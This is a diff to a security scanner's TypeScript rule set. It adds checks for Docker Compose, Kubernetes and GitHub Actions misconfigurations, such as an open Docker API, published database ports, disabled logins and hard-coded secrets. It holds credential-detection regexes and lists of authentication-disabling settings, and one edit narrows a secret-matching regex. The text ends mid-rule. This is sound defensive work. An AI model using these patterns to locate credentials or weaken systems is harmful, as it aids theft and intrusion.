@@ -2,7 +2,7 @@
 import type { RuleSet } from './rules/rule-data.ts';
 
 export const ruleSet: RuleSet = {
- "version": "b80d62d671bc",
+ "version": "1c347452019c",
  "rules": [
   {
    "id": "archive-extraction",
@@ -15161,6 +15161,48 @@ export const ruleSet: RuleSet = {
    ]
   },
   {
+   "id": "cgroup-parent",
+   "title": "Control group chosen",
+   "category": "security",
+   "severity": "low",
+   "confidence": "medium",
+   "cwe": [
+    250
+   ],
+   "owasp": [
+    "A05:2021"
+   ],
+   "tags": [
+    "container",
+    "isolation",
+    "CIS-Docker-5.25",
+    "KICS-4d9f44c6"
+   ],
+   "message": "`{name}` runs in a control group of its own choice.",
+   "why": "Limits of memory and time hold for a control group. In another one the container takes what belongs to others.",
+   "fix": "Leave `cgroup_parent` out.",
+   "references": [
+    "https://docs.docker.com/reference/compose-file/services/"
+   ],
+   "match": [
+    {
+     "format": "compose",
+     "resource": [
+      "service"
+     ],
+     "where": [
+      {
+       "path": "cgroup_parent",
+       "present": true
+      }
+     ]
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
    "id": "cloud-cors-any-origin",
    "title": "Storage or app open to every origin",
    "category": "security",
@@ -16303,7 +16345,7 @@ export const ruleSet: RuleSet = {
         "user_data",
         "user_data_base64"
        ],
-       "source": "A(?:KIA|SIA)[A-Z0-9]{16}|aws_secret_access_key\\s*=\\s*\\S{20}|-----BEGIN (?:[A-Z]+ )?PRIVATE KEY|(?:PASSWORD|SECRET|TOKEN|API_?KEY|passwd)\\w{0,20}=['\"]?[^\\s$'\"`]{6}"
+       "source": "A(?:KIA|SIA)[A-Z0-9]{16}|aws_secret_access_key\\s=\\s\\S{20}|-----BEGIN [A-Z ]{0,20}PRIVATE KEY|(?:PASSWORD|SECRET|SECRET_ACCESS_KEY|TOKEN|API_?KEY|passwd)=['\"]?[^\\s$'\"`]{6}"
       }
      ],
      "message": "{name} holds a credential in its start script, which every program on the machine can read."
@@ -16321,7 +16363,7 @@ export const ruleSet: RuleSet = {
         "custom_data",
         "os_profile[*].custom_data"
        ],
-       "source": "A(?:KIA|SIA)[A-Z0-9]{16}|aws_secret_access_key\\s*=\\s*\\S{20}|-----BEGIN (?:[A-Z]+ )?PRIVATE KEY|(?:PASSWORD|SECRET|TOKEN|API_?KEY|passwd)\\w{0,20}=['\"]?[^\\s$'\"`]{6}"
+       "source": "A(?:KIA|SIA)[A-Z0-9]{16}|aws_secret_access_key\\s=\\s\\S{20}|-----BEGIN [A-Z ]{0,20}PRIVATE KEY|(?:PASSWORD|SECRET|SECRET_ACCESS_KEY|TOKEN|API_?KEY|passwd)=['\"]?[^\\s$'\"`]{6}"
       }
      ],
      "message": "{name} holds a credential in its start script, which every program on the machine can read."
@@ -16338,7 +16380,7 @@ export const ruleSet: RuleSet = {
         "metadata_startup_script",
         "metadata.startup-script"
        ],
-       "source": "A(?:KIA|SIA)[A-Z0-9]{16}|aws_secret_access_key\\s*=\\s*\\S{20}|-----BEGIN (?:[A-Z]+ )?PRIVATE KEY|(?:PASSWORD|SECRET|TOKEN|API_?KEY|passwd)\\w{0,20}=['\"]?[^\\s$'\"`]{6}"
+       "source": "A(?:KIA|SIA)[A-Z0-9]{16}|aws_secret_access_key\\s=\\s\\S{20}|-----BEGIN [A-Z ]{0,20}PRIVATE KEY|(?:PASSWORD|SECRET|SECRET_ACCESS_KEY|TOKEN|API_?KEY|passwd)=['\"]?[^\\s$'\"`]{6}"
       }
      ],
      "message": "{name} holds a credential in its start script, which every program on the machine can read."
@@ -17497,6 +17539,64 @@ export const ruleSet: RuleSet = {
        "is": "RunAsAny"
       }
      ]
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
+   "id": "container-engine-api",
+   "title": "Container engine on the network",
+   "category": "security",
+   "severity": "high",
+   "confidence": "high",
+   "cwe": [
+    306,
+    319
+   ],
+   "owasp": [
+    "A05:2021"
+   ],
+   "tags": [
+    "container",
+    "network",
+    "CIS-Docker-2.7"
+   ],
+   "message": "`{name}` opens the engine's API on port 2375, without encryption or login.",
+   "why": "Whoever can reach the API starts a container with the host's disk in it, and so has the machine.",
+   "fix": "Use the socket, or port 2376 with certificates on both sides.",
+   "references": [
+    "https://docs.docker.com/engine/security/protect-access/"
+   ],
+   "match": [
+    {
+     "format": "compose",
+     "resource": [
+      "port"
+     ],
+     "where": [
+      {
+       "path": "target",
+       "is": 2375
+      }
+     ]
+    },
+    {
+     "format": "compose",
+     "resource": [
+      "service"
+     ],
+     "where": [
+      {
+       "path": [
+        "command[*]",
+        "command"
+       ],
+       "matches": "tcp://(?:0\\.0\\.0\\.0)?:2375"
+      }
+     ],
+     "at": "command"
     }
    ],
    "languages": [
@@ -19395,6 +19495,64 @@ export const ruleSet: RuleSet = {
    ]
   },
   {
+   "id": "database-port-published",
+   "title": "Database open to the network",
+   "category": "security",
+   "severity": "medium",
+   "confidence": "medium",
+   "cwe": [
+    668,
+    1327
+   ],
+   "owasp": [
+    "A05:2021"
+   ],
+   "tags": [
+    "container",
+    "network",
+    "CIS-Docker-5.13",
+    "KICS-451d79dc"
+   ],
+   "message": "The port {value} of `{name}` is open on every address of the host.",
+   "why": "A published port without an address listens on all of them, and Docker opens the firewall for it. A database on the internet is found within the hour.",
+   "fix": "Leave `ports` out, services of one network reach each other; or bind to the host alone: `127.0.0.1:5432:5432`.",
+   "references": [
+    "https://docs.docker.com/engine/network/packet-filtering-firewalls/",
+    "https://docs.docker.com/reference/compose-file/services/"
+   ],
+   "match": [
+    {
+     "format": "compose",
+     "resource": [
+      "port"
+     ],
+     "where": [
+      {
+       "path": "^imageName",
+       "matches": "(?:^|/)(?:postgres(?:ql)?|postgis|timescaledb(?:-ha)?|mysql(?:-server)?|mariadb|percona|mongo(?:db)?|redis(?:-stack(?:-server)?)?|valkey|memcached|elasticsearch|opensearch|cassandra|couchdb|couchbase|neo4j|influxdb|clickhouse(?:-server)?|rabbitmq|etcd|consul|vault|mssql/server|server|oracle-xe|cockroach|minio|kafka|zookeeper|solr)$"
+      },
+      {
+       "path": "published",
+       "present": true
+      },
+      {
+       "path": "hostIp",
+       "default": "0.0.0.0",
+       "is": [
+        "0.0.0.0",
+        "[::]",
+        "::"
+       ]
+      }
+     ],
+     "at": "published"
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
    "id": "default-namespace",
    "title": "Default namespace used",
    "category": "security",
@@ -21048,6 +21206,47 @@ export const ruleSet: RuleSet = {
       {
        "path": "hostAliases[*]",
        "present": true
+      }
+     ]
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
+   "id": "host-device",
+   "title": "Device of the host handed in",
+   "category": "security",
+   "severity": "medium",
+   "confidence": "medium",
+   "cwe": [
+    250
+   ],
+   "owasp": [
+    "A05:2021"
+   ],
+   "tags": [
+    "container",
+    "isolation",
+    "CIS-Docker-5.18"
+   ],
+   "message": "`{name}` gets the device `{value}` of the host.",
+   "why": "Through a disk or the memory's device a process reads and writes everything, whatever the filesystem says.",
+   "fix": "Take the device out, or choose a narrow one, and read-only (`:r`).",
+   "references": [
+    "https://docs.docker.com/reference/compose-file/services/"
+   ],
+   "match": [
+    {
+     "format": "compose",
+     "resource": [
+      "service"
+     ],
+     "each": "devices[*]",
+     "where": [
+      {
+       "matches": "^/dev/(?:sd[a-z]|nvme|xvd|vd[a-z]|hd[a-z]|mem|kmem|port|disk|mapper|loop|dm-|root)|^/dev/?(?::|$)"
       }
      ]
     }
@@ -23471,6 +23670,218 @@ export const ruleSet: RuleSet = {
    ],
    "languages": [
     "terraform"
+   ]
+  },
+  {
+   "id": "login-switched-off",
+   "title": "Login switched off",
+   "category": "security",
+   "severity": "high",
+   "confidence": "high",
+   "cwe": [
+    306,
+    1188
+   ],
+   "owasp": [
+    "A05:2021"
+   ],
+   "tags": [
+    "container",
+    "KICS-login"
+   ],
+   "message": "`{name}` lets everybody in without a password (`{value}`).",
+   "why": "Whoever reaches the port is the administrator. What reaches it today is known; what does tomorrow is not.",
+   "fix": "Take the switch out, and set a password by a secret.",
+   "references": [
+    "https://docs.docker.com/reference/compose-file/services/"
+   ],
+   "match": [
+    {
+     "format": "compose",
+     "resource": [
+      "variable"
+     ],
+     "where": [
+      {
+       "any": [
+        {
+         "all": [
+          {
+           "path": "name",
+           "is": "POSTGRES_HOST_AUTH_METHOD"
+          },
+          {
+           "path": "value",
+           "is": "trust"
+          }
+         ]
+        },
+        {
+         "all": [
+          {
+           "path": "name",
+           "matches": "^(?:MYSQL_|MARIADB_)?ALLOW_EMPTY(?:_ROOT)?_PASSWORD$|^(?:MYSQL|MARIADB)_ALLOW_EMPTY_(?:ROOT_)?PASSWORD$"
+          },
+          {
+           "path": "value",
+           "is": [
+            "yes",
+            "true",
+            1
+           ]
+          }
+         ]
+        },
+        {
+         "all": [
+          {
+           "path": "name",
+           "is": [
+            "xpack.security.enabled",
+            "plugins.security.enabled"
+           ]
+          },
+          {
+           "path": "value",
+           "is": false
+          }
+         ]
+        },
+        {
+         "all": [
+          {
+           "path": "name",
+           "is": [
+            "DISABLE_SECURITY_PLUGIN",
+            "plugins.security.disabled"
+           ]
+          },
+          {
+           "path": "value",
+           "is": true
+          }
+         ]
+        },
+        {
+         "all": [
+          {
+           "path": "name",
+           "is": [
+            "ME_CONFIG_BASICAUTH",
+            "GF_AUTH_DISABLE_LOGIN_FORM"
+           ]
+          },
+          {
+           "path": "value",
+           "is": [
+            false
+           ]
+          }
+         ]
+        },
+        {
+         "all": [
+          {
+           "path": "name",
+           "is": "GF_AUTH_ANONYMOUS_ENABLED"
+          },
+          {
+           "path": "value",
+           "is": true
+          }
+         ]
+        },
+        {
+         "all": [
+          {
+           "path": "name",
+           "is": "DOCKER_TLS_CERTDIR"
+          },
+          {
+           "path": "value",
+           "empty": true
+          }
+         ]
+        }
+       ]
+      }
+     ],
+     "at": "name"
+    },
+    {
+     "format": "kubernetes",
+     "resource": [
+      "container"
+     ],
+     "each": "env[*]",
+     "where": [
+      {
+       "any": [
+        {
+         "all": [
+          {
+           "path": "name",
+           "is": "POSTGRES_HOST_AUTH_METHOD"
+          },
+          {
+           "path": "value",
+           "is": "trust"
+          }
+         ]
+        },
+        {
+         "all": [
+          {
+           "path": "name",
+           "matches": "^(?:MYSQL_|MARIADB_)?ALLOW_EMPTY(?:_ROOT)?_PASSWORD$|^(?:MYSQL|MARIADB)_ALLOW_EMPTY_(?:ROOT_)?PASSWORD$"
+          },
+          {
+           "path": "value",
+           "is": [
+            "yes",
+            "true",
+            1
+           ]
+          }
+         ]
+        },
+        {
+         "all": [
+          {
+           "path": "name",
+           "is": [
+            "xpack.security.enabled",
+            "plugins.security.enabled"
+           ]
+          },
+          {
+           "path": "value",
+           "is": false
+          }
+         ]
+        },
+        {
+         "all": [
+          {
+           "path": "name",
+           "is": [
+            "DISABLE_SECURITY_PLUGIN"
+           ]
+          },
+          {
+           "path": "value",
+           "is": true
+          }
+         ]
+        }
+       ]
+      }
+     ],
+     "at": "name"
+    }
+   ],
+   "languages": [
+    "yaml"
    ]
   },
   {
@@ -26750,6 +27161,59 @@ export const ruleSet: RuleSet = {
    ]
   },
   {
+   "id": "port-on-all-addresses",
+   "title": "Port open on every address",
+   "category": "security",
+   "severity": "info",
+   "confidence": "low",
+   "cwe": [
+    668,
+    1327
+   ],
+   "owasp": [
+    "A05:2021"
+   ],
+   "tags": [
+    "container",
+    "network",
+    "CIS-Docker-5.13",
+    "KICS-451d79dc"
+   ],
+   "message": "The port {value} of `{name}` is open on every address of the host.",
+   "why": "Without an address a published port listens on all networks that the host has, and past its firewall.",
+   "fix": "Name the address: `127.0.0.1:8080:8080`.",
+   "references": [
+    "https://docs.docker.com/reference/compose-file/services/"
+   ],
+   "match": [
+    {
+     "format": "compose",
+     "resource": [
+      "port"
+     ],
+     "where": [
+      {
+       "path": "published",
+       "present": true
+      },
+      {
+       "path": "hostIp",
+       "default": "0.0.0.0",
+       "is": [
+        "0.0.0.0",
+        "[::]",
+        "::"
+       ]
+      }
+     ],
+     "at": "published"
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
    "id": "port-out-of-range",
    "title": "Port that does not exist",
    "category": "quality",
@@ -27008,6 +27472,67 @@ export const ruleSet: RuleSet = {
        "below": 1024
       }
      ]
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
+   "id": "process-limit-missing",
+   "title": "No limit of processes",
+   "category": "security",
+   "severity": "info",
+   "confidence": "low",
+   "cwe": [
+    770
+   ],
+   "owasp": [
+    "A05:2021"
+   ],
+   "tags": [
+    "container",
+    "resources",
+    "CIS-Docker-5.29",
+    "KICS-221e0658"
+   ],
+   "message": "`{name}` may start any number of processes.",
+   "why": "A program that forks without end takes the whole host with it.",
+   "fix": "Set `pids_limit` (or `deploy.resources.limits.pids`).",
+   "references": [
+    "https://docs.docker.com/reference/compose-file/services/"
+   ],
+   "match": [
+    {
+     "format": "compose",
+     "resource": [
+      "service"
+     ],
+     "where": [
+      {
+       "path": [
+        "pids_limit",
+        "deploy.resources.limits.pids"
+       ],
+       "absent": true
+      }
+     ]
+    },
+    {
+     "format": "compose",
+     "resource": [
+      "service"
+     ],
+     "where": [
+      {
+       "path": [
+        "pids_limit",
+        "deploy.resources.limits.pids"
+       ],
+       "below": 1
+      }
+     ],
+     "confidence": "medium"
     }
    ],
    "languages": [
@@ -29734,6 +30259,51 @@ export const ruleSet: RuleSet = {
    ]
   },
   {
+   "id": "restart-without-end",
+   "title": "Restarts without end",
+   "category": "quality",
+   "severity": "info",
+   "confidence": "low",
+   "cwe": [
+    400
+   ],
+   "owasp": [
+    "A05:2021"
+   ],
+   "tags": [
+    "container",
+    "reliability",
+    "CIS-Docker-5.15",
+    "KICS-2fc99041"
+   ],
+   "message": "`{name}` is started again however often it fails.",
+   "why": "A program that fails at once is started again and again, and its failure is never noticed.",
+   "fix": "Use `on-failure:5`.",
+   "references": [
+    "https://docs.docker.com/reference/compose-file/services/"
+   ],
+   "match": [
+    {
+     "format": "compose",
+     "resource": [
+      "service"
+     ],
+     "where": [
+      {
+       "path": "restart",
+       "is": [
+        "always",
+        "unless-stopped"
+       ]
+      }
+     ]
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
    "id": "retired-resource-type",
    "title": "Resource of the time before VPCs",
    "category": "security",
@@ -31528,6 +32098,63 @@ export const ruleSet: RuleSet = {
    ],
    "languages": [
     "dockerfile"
+   ]
+  },
+  {
+   "id": "shared-mount",
+   "title": "Mount shared with the host",
+   "category": "security",
+   "severity": "medium",
+   "confidence": "high",
+   "cwe": [
+    668
+   ],
+   "owasp": [
+    "A05:2021"
+   ],
+   "tags": [
+    "container",
+    "isolation",
+    "CIS-Docker-5.20",
+    "KICS-baa452f0"
+   ],
+   "message": "What `{name}` mounts below `{value}` shows up on the host.",
+   "why": "With shared propagation a mount that is made in the container is one of the host as well, in all its containers.",
+   "fix": "Leave propagation out; its default is `rprivate`.",
+   "references": [
+    "https://docs.docker.com/engine/storage/bind-mounts/"
+   ],
+   "match": [
+    {
+     "format": "compose",
+     "resource": [
+      "mount"
+     ],
+     "where": [
+      {
+       "path": "bind.propagation",
+       "is": [
+        "shared",
+        "rshared"
+       ]
+      }
+     ]
+    },
+    {
+     "format": "compose",
+     "resource": [
+      "service"
+     ],
+     "each": "volumes[*]",
+     "where": [
+      {
+       "matches": ":(?:[\\w,]{0,20},)?r?shared(?:,|$)"
+      }
+     ]
+    }
+   ],
+   "languages": [
+    "yaml"
    ]
   },
   {
@@ -37673,6 +38300,1782 @@ export const ruleSet: RuleSet = {
       "title": "Run inside of a container",
       "set": "securityContext.windowsOptions.hostProcess",
       "to": "false"
+     }
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
+   "id": "workflow-all-secrets",
+   "title": "All secrets in one value",
+   "category": "security",
+   "severity": "medium",
+   "confidence": "high",
+   "cwe": [
+    522,
+    250
+   ],
+   "owasp": [
+    "A05:2021"
+   ],
+   "tags": [
+    "workflow",
+    "secrets",
+    "zizmor-overprovisioned-secrets",
+    "zizmor-unredacted-secrets"
+   ],
+   "message": "This expression reaches all secrets of the repository (`{value}`).",
+   "why": "GitHub loads the secrets that a workflow names. An expression that could mean any loads all of them into the runner's memory, and `fromJSON(secrets.x)` makes parts that the log does not hide.",
+   "fix": "Name the secret that is needed.",
+   "references": [
+    "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions"
+   ],
+   "match": [
+    {
+     "format": "actions",
+     "resource": [
+      "workflow",
+      "job",
+      "step"
+     ],
+     "each": "env{*}",
+     "where": [
+      {
+       "matches": "tojson\\(\\s*secrets\\s*\\)|\\bsecrets\\[(?!.?['\"])"
+      }
+     ]
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "uses-step",
+      "reusable-job"
+     ],
+     "each": "with{*}",
+     "where": [
+      {
+       "matches": "tojson\\(\\s*secrets\\s*\\)|\\bsecrets\\[(?!.?['\"])"
+      }
+     ]
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "run-step"
+     ],
+     "each": "expressions[*]",
+     "where": [
+      {
+       "matches": "tojson\\(\\s*secrets\\s*\\)|\\bsecrets\\[(?!.?['\"])"
+      }
+     ]
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "workflow",
+      "job",
+      "step"
+     ],
+     "each": "env{*}",
+     "where": [
+      {
+       "matches": "fromjson\\(\\s*secrets\\."
+      }
+     ],
+     "severity": "low"
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
+   "id": "workflow-artifact-of-strangers",
+   "title": "Artifact of strangers used",
+   "category": "security",
+   "severity": "medium",
+   "confidence": "medium",
+   "cwe": [
+    829,
+    494
+   ],
+   "owasp": [
+    "A08:2021"
+   ],
+   "tags": [
+    "workflow",
+    "zizmor-artipacked",
+    "CodeQL-artifact-poisoning",
+    "CICD-SEC-9"
+   ],
+   "message": "The artifact comes from a run that a stranger's pull request may have made.",
+   "why": "`workflow_run` has your rights, while the run before it ran the pull request's code, which put into the artifact what it liked: a script, an executable, a number that is none.",
+   "fix": "Unpack it into a folder of its own, check what is in it, and run nothing of it.",
+   "references": [
+    "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/"
+   ],
+   "match": [
+    {
+     "format": "actions",
+     "resource": [
+      "uses-step"
+     ],
+     "where": [
+      {
+       "path": "action",
+       "is": [
+        "actions/download-artifact",
+        "dawidd6/action-download-artifact",
+        "aochmann/actions-download-artifact"
+       ]
+      },
+      {
+       "path": "^^triggers.workflow_run",
+       "present": true
+      }
+     ],
+     "at": "uses"
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "run-step"
+     ],
+     "where": [
+      {
+       "path": "commands[*].text",
+       "matches": "^gh run download"
+      },
+      {
+       "path": "^^triggers.workflow_run",
+       "present": true
+      }
+     ],
+     "at": "run"
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
+   "id": "workflow-cache-poisoning",
+   "title": "Release built from a shared cache",
+   "category": "security",
+   "severity": "low",
+   "confidence": "medium",
+   "cwe": [
+    345,
+    829
+   ],
+   "owasp": [
+    "A08:2021"
+   ],
+   "tags": [
+    "workflow",
+    "supply-chain",
+    "zizmor-cache-poisoning",
+    "CICD-SEC-9"
+   ],
+   "message": "`{value}` fills a release from a cache that other workflows write.",
+   "why": "Any workflow on the default branch can write the cache, one that a stranger has broken into as well. What is published would be built from what he left there.",
+   "fix": "Do without a cache in the workflow that publishes.",
+   "references": [
+    "https://docs.zizmor.sh/audits/#cache-poisoning"
+   ],
+   "match": [
+    {
+     "format": "actions",
+     "resource": [
+      "uses-step"
+     ],
+     "where": [
+      {
+       "any": [
+        {
+         "path": "^^triggers.release",
+         "present": true
+        },
+        {
+         "path": "^^triggers.push.tags",
+         "present": true
+        }
+       ]
+      },
+      {
+       "any": [
+        {
+         "path": "action",
+         "is": [
+          "actions/cache",
+          "actions/cache/restore",
+          "Swatinem/rust-cache",
+          "mozilla-actions/sccache-action"
+         ]
+        },
+        {
+         "all": [
+          {
+           "path": "action",
+           "matches": "^(?:actions/setup-(?:node|python|java|dotnet)|ruby/setup-ruby|astral-sh/setup-uv|gradle/actions/setup-gradle)$"
+          },
+          {
+           "path": [
+            "with.cache",
+            "with.bundler-cache",
+            "with.enable-cache"
+           ],
+           "matches": "^(?!false$)"
+          }
+         ]
+        },
+        {
+         "all": [
+          {
+           "path": "action",
+           "is": "actions/setup-go"
+          },
+          {
+           "path": "with.cache",
+           "default": true,
+           "is": true
+          }
+         ]
+        }
+       ]
+      }
+     ],
+     "at": "uses"
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
+   "id": "workflow-comment-command",
+   "title": "Anybody may give this command",
+   "category": "security",
+   "severity": "medium",
+   "confidence": "medium",
+   "cwe": [
+    862
+   ],
+   "owasp": [
+    "A01:2021"
+   ],
+   "tags": [
+    "workflow",
+    "zizmor-dangerous-triggers",
+    "CICD-SEC-4"
+   ],
+   "message": "`{name}` runs at anybody's comment: nothing looks at who wrote it.",
+   "why": "On a public repository everybody may comment. A job that does something on a comment does it for everybody, with your token.",
+   "fix": "Ask in `if` for `github.event.comment.author_association` to be `OWNER`, `MEMBER` or `COLLABORATOR`.",
+   "references": [
+    "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions"
+   ],
+   "match": [
+    {
+     "format": "actions",
+     "resource": [
+      "steps-job"
+     ],
+     "where": [
+      {
+       "path": "^triggers.issue_comment",
+       "present": true
+      },
+      {
+       "path": "if",
+       "default": "none",
+       "matches": "^(?!.*(?:author_association|actor|user\\.login|sender|needs\\.|permission|false))"
+      },
+      {
+       "not": {
+        "path": "steps[*].if",
+        "matches": "author_association|actor|user\\.login|permission"
+       }
+      },
+      {
+       "not": {
+        "path": "steps[*].uses",
+        "matches": "permission|slash-command|command|check-user"
+       }
+      },
+      {
+       "path": "needs",
+       "absent": true
+      }
+     ]
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
+   "id": "workflow-dangerous-trigger",
+   "title": "Trigger with your rights",
+   "category": "security",
+   "severity": "low",
+   "confidence": "medium",
+   "cwe": [
+    829
+   ],
+   "owasp": [
+    "A08:2021"
+   ],
+   "tags": [
+    "workflow",
+    "zizmor-dangerous-triggers",
+    "CICD-SEC-4"
+   ],
+   "message": "`{key}` starts this workflow for strangers, with your secrets and a token that may write.",
+   "why": "Workflows of this trigger run in the name of your repository, though others cause them. That is safe as long as nothing of theirs is run, downloaded and used, or pasted into a script.",
+   "fix": "Use `pull_request` where the secrets are not needed.",
+   "references": [
+    "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/",
+    "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions"
+   ],
+   "match": [
+    {
+     "format": "actions",
+     "resource": [
+      "workflow"
+     ],
+     "where": [
+      {
+       "path": "triggers.pull_request_target",
+       "present": true
+      }
+     ]
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "workflow"
+     ],
+     "where": [
+      {
+       "path": "triggers.workflow_run",
+       "present": true
+      }
+     ]
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
+   "id": "workflow-deprecated-action",
+   "title": "Action out of service",
+   "category": "security",
+   "severity": "low",
+   "confidence": "high",
+   "cwe": [
+    477,
+    1104
+   ],
+   "owasp": [
+    "A06:2021"
+   ],
+   "tags": [
+    "workflow",
+    "supply-chain",
+    "actionlint-action",
+    "zizmor-archived-uses"
+   ],
+   "message": "`{value}` is no longer kept up; GitHub refuses or replaces it.",
+   "why": "Old versions run on a Node that gets no more mends, and versions of the artifact actions before 4 no longer work at all.",
+   "fix": "Use a current version.",
+   "references": [
+    "https://github.blog/changelog/2024-04-16-deprecation-notice-v3-of-the-artifact-actions/"
+   ],
+   "match": [
+    {
+     "format": "actions",
+     "resource": [
+      "uses-step"
+     ],
+     "where": [
+      {
+       "path": "action",
+       "is": [
+        "actions/upload-artifact",
+        "actions/download-artifact"
+       ]
+      },
+      {
+       "path": "ref",
+       "matches": "^v[123](?:\\.|$)"
+      }
+     ],
+     "at": "uses"
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "uses-step"
+     ],
+     "where": [
+      {
+       "path": "action",
+       "is": [
+        "actions/checkout",
+        "actions/cache",
+        "actions/setup-node",
+        "actions/setup-python",
+        "actions/setup-java",
+        "actions/setup-go",
+        "actions/setup-dotnet"
+       ]
+      },
+      {
+       "path": "ref",
+       "matches": "^v[12](?:\\.|$)"
+      }
+     ],
+     "at": "uses"
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "uses-step"
+     ],
+     "where": [
+      {
+       "path": "action",
+       "matches": "^(?:actions/(?:create-release|upload-release-asset|setup-ruby)|actions-rs/[\\w-]{1,40})$"
+      }
+     ],
+     "at": "uses"
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
+   "id": "workflow-dispatch-input",
+   "title": "Build that can be steered",
+   "category": "security",
+   "severity": "info",
+   "confidence": "low",
+   "cwe": [
+    16
+   ],
+   "owasp": [
+    "A08:2021"
+   ],
+   "tags": [
+    "workflow",
+    "CKV_GHA_7",
+    "SLSA"
+   ],
+   "message": "Whoever starts `{name}` by hand can change what it builds.",
+   "why": "SLSA asks that what comes out depends on the source alone, and not on values that somebody types in.",
+   "fix": "Do without inputs in the workflow that builds releases.",
+   "references": [
+    "https://slsa.dev/spec/v1.0/requirements"
+   ],
+   "match": [
+    {
+     "format": "actions",
+     "resource": [
+      "workflow"
+     ],
+     "where": [
+      {
+       "path": "triggers.workflow_dispatch.inputs{*}",
+       "present": true
+      }
+     ],
+     "at": "triggers.workflow_dispatch.inputs"
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
+   "id": "workflow-environment-write",
+   "title": "Environment written from outside",
+   "category": "security",
+   "severity": "medium",
+   "confidence": "medium",
+   "cwe": [
+    94,
+    454
+   ],
+   "owasp": [
+    "A03:2021"
+   ],
+   "tags": [
+    "workflow",
+    "injection",
+    "zizmor-github-env"
+   ],
+   "message": "What this step computes becomes a variable or a path of all later steps, in a workflow that strangers start.",
+   "why": "Who controls one line of what is written sets `LD_PRELOAD` or `NODE_OPTIONS` by a line break, and runs code with the workflow's rights.",
+   "fix": "Use a step's output (`$GITHUB_OUTPUT`) for data, and check it before.",
+   "references": [
+    "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions"
+   ],
+   "match": [
+    {
+     "format": "actions",
+     "resource": [
+      "run-step"
+     ],
+     "where": [
+      {
+       "check": "writes-environment"
+      },
+      {
+       "path": "^^triggers{~^(?:pull_request_target|workflow_run|issue_comment)$}",
+       "present": true
+      }
+     ],
+     "at": "run"
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
+   "id": "workflow-hard-coded-secret",
+   "title": "Secret written into a workflow",
+   "category": "security",
+   "severity": "high",
+   "confidence": "medium",
+   "cwe": [
+    798,
+    259
+   ],
+   "owasp": [
+    "A07:2021"
+   ],
+   "tags": [
+    "workflow",
+    "secrets",
+    "zizmor-hardcoded-container-credentials",
+    "CICD-SEC-6"
+   ],
+   "message": "`{key}` is a secret whose value stands in this file.",
+   "why": "Whoever reads the repository, or once had a copy, has the secret.",
+   "fix": "Put it into the repository's secrets, use `${{ secrets.NAME }}`, and change it.",
+   "references": [
+    "https://docs.github.com/en/actions/security-for-github-actions/security-guides/using-secrets-in-github-actions"
+   ],
+   "match": [
+    {
+     "format": "actions",
+     "resource": [
+      "job"
+     ],
+     "each": "container.credentials.password",
+     "where": [
+      {
+       "matches": "^(?!\\$\\{\\{)\\S"
+      }
+     ]
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "job"
+     ],
+     "each": "services{*}.credentials.password",
+     "where": [
+      {
+       "matches": "^(?!\\$\\{\\{)\\S"
+      }
+     ]
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "workflow",
+      "job",
+      "step"
+     ],
+     "each": "env{~(?:^|_)(?:password|passwd|passphrase|secret|token|api_?key|access_?key|private_?key|secret_?key|client_?secret)$}",
+     "where": [
+      {
+       "matches": "^[^\\s$<]{8,}$"
+      },
+      {
+       "not": {
+        "matches": "^(?:postgres|password|changeme|example|dummy|test|root|admin|your|xxx|fake|none|null|false|true|mysql|secret|ci-|/|\\./|https?:)"
+       }
+      }
+     ],
+     "severity": "medium"
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "uses-step"
+     ],
+     "each": "with{~(?:^|[_-])(?:password|passphrase|secret|token|api[_-]?key|access[_-]?key|secret[_-]?access[_-]?key|private[_-]?key|client[_-]?secret)$}",
+     "where": [
+      {
+       "matches": "^[^\\s$<]{8,}$"
+      },
+      {
+       "not": {
+        "matches": "^(?:postgres|password|changeme|example|dummy|test|root|admin|your|xxx|fake|none|null|false|true|mysql|secret|ci-|/|\\./|https?:)"
+       }
+      }
+     ]
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
+   "id": "workflow-long-lived-credential",
+   "title": "Password where a token would do",
+   "category": "security",
+   "severity": "info",
+   "confidence": "medium",
+   "cwe": [
+    798,
+    287
+   ],
+   "owasp": [
+    "A07:2021"
+   ],
+   "tags": [
+    "workflow",
+    "secrets",
+    "zizmor-use-trusted-publishing",
+    "GitHub-oidc"
+   ],
+   "message": "`{value}` is used with a secret that lasts, though it can prove itself by the run's own identity.",
+   "why": "A stored key is good for whoever gets it until somebody changes it. An identity token is good for one run.",
+   "fix": "Use OpenID Connect: `permissions: { id-token: write }` and the provider's role.",
+   "references": [
